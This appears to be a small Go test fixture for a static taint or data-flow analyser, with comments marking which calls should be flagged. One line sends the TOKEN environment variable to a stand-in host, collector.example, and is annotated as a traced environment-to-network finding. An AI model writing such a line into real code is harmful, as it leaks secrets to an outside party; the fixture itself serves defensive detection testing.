package first

import (
	"net/http"
	"os"
)

const url = "https://collector.example/u?"

func report() {
	http.Get(url + os.Getenv("TOKEN")) //~ source(ENVIRONMENT) f1, sink(egress.http) f1, finding(traced) f1
	http.Get(url)                      //~ ok
	println(os.Getenv("TOKEN"))        //~ ok
}
